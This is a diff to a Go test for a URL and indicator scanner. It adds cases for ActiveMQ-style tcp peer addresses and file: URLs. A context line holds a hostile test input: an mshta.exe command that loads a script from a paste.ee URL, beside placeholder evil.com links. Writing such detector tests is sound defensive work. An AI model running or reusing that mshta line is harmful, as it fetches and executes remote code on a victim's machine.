@@ -13,6 +13,11 @@ func TestScanURL(t *testing.T) {
 		// a schema's URI under a key naming it (CloudEvents' dataschema, OpenTelemetry's schemaUrl); a link under another key stays one
 		{`{"dataschema":"https://events-schemas.twilio.com/TaskRouter.WDSEvent/1","schemaUrl":"https://opentelemetry.io/schemas/1.21.0","link":"https://evil.com/s"}`, []string{"url https://evil.com/s"}},
 		{"http://evil.com", []string{"url http://evil.com"}},
+		// a transport's peer, as Java prints a socket's address after an empty or one-label host (ActiveMQ); a file: URL's path is a path
+		{`tcp:///185.243.115.84:50812@61616 tcp://mq-prod-02/10.20.12.8:61616@41222 file:///8.8.8.8/x`, []string{
+			"url tcp:///185.243.115.84:50812@61616 unsupported-scheme", "ipv4 185.243.115.84",
+			"url tcp://mq-prod-02/10.20.12.8:61616@41222 unsupported-scheme", "dns mq-prod-02 unqualified", "ipv4 10.20.12.8 private",
+			"url file:///8.8.8.8/x unsupported-scheme"}},
 		// a comma in a query is kept, but not one before another URL
 		{`mshta.exe "javascript:a=GetObject('script:https://paste.ee/r/Xk2qP/0');close();"`, []string{
 			"dns mshta.exe unknown-tld", "url https://paste.ee/r/Xk2qP/0"}},
